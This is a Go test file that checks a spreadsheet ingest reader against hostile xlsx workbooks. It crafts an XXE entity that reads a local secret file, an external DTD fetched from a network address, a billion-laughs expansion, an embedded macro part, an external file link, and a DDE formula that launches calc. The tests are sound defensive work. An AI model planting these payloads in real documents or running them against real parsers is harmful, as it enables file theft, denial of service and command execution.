package ingest_test

import (
	"archive/zip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// reworked returns a workbook with one part changed and further ones added.
func reworked(t *testing.T, book, part string, change func(string) string, more ...string) string {
	t.Helper()
	z, err := zip.NewReader(strings.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	files, changed := more, false
	for _, f := range z.File {
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		if f.Name == part {
			text, changed = []byte(change(string(text))), true
		}
		files = append(files, f.Name, string(text))
	}
	if !changed {
		t.Fatalf("the workbook has no part %s", part)
	}
	return zipped(t, files...)
}

// A workbook that reaches for files, grows without end or brings programs along is refused
// with a place, or read as if it did not.
func TestHostileWorkbooks(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("hunter2"), 0o600); err != nil {
		t.Fatal(err)
	}
	good := workbook(t, func(f *excelize.File) error {
		return fillSheet(f, "Sheet1", 1, [][]string{{"period", "provider", "value", "unit"}, {"2015Q1", "Acme", "1", "CNY"}})
	})
	const strs = "xl/sharedStrings.xml"
	declare := func(dtd string) func(string) string {
		return func(text string) string {
			at := strings.Index(text, "<sst")
			return text[:at] + "<!DOCTYPE sst [" + dtd + "]>" + strings.Replace(text[at:], "Acme", "&x;", 1)
		}
	}
	laughs := `<!ENTITY l0 "lol">`
	for i := range 30 {
		laughs += fmt.Sprintf(`<!ENTITY l%d "&l%d;&l%d;">`, i+1, i, i)
	}
	same := func(text string) string { return text }
	tests := []struct {
		name, book string
		rows       int // 0: refused
	}{
		{"nothing", good, 1},
		{"an entity that is a file", reworked(t, good, strs, declare(`<!ENTITY x SYSTEM "file://`+secret+`">`)), 0},
		{"an entity from the network", reworked(t, good, strs, declare(`<!ENTITY % d SYSTEM "http://192.0.2.1/x.dtd"> %d;`)), 0},
		{"a billion laughs", reworked(t, good, strs, declare(laughs+`<!ENTITY x "&l30;">`)), 0},
		{"macros", reworked(t, good, strs, same, "xl/vbaProject.bin", "x"), 1},
		{"a link to another workbook", reworked(t, good, "xl/_rels/workbook.xml.rels", func(text string) string {
			return strings.Replace(text, "</Relationships>", `<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file://`+secret+`" TargetMode="External"/></Relationships>`, 1)
		}), 1},
		{"a formula that starts a program", reworked(t, good, "xl/worksheets/sheet1.xml", func(text string) string {
			at := strings.Index(text, `<c r="C2"`)
			end := at + strings.Index(text[at:], "</c>")
			return text[:at] + `<c r="C2" t="str"><f>cmd|'/C calc'!A0</f><v>1</v>` + text[end:]
		}), 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := read(t, dataset(describe("path: f.xlsx", plain), map[string]string{"f.xlsx": tt.book}))
			if len(out.rows) != tt.rows || tt.rows > 0 && out.rows[0].Printed != "1 CNY" {
				t.Errorf("%d rows, want %d: %+v, %v", len(out.rows), tt.rows, out.rows, out.err)
			}
			if tt.rows == 0 && out.err == nil && len(out.summary.Rejects) == 0 {
				t.Error("neither rows, nor a reject, nor an error")
			}
			if said := fmt.Sprint(out.rows, out.summary, out.err); strings.Contains(said, "hunter2") {
				t.Errorf("the secret came out: %s", said)
			}
			if out.err != nil && !strings.HasPrefix(problems(t, out.err)[0], "f.xlsx") {
				t.Errorf("%v has no place", out.err)
			}
		})
	}
}
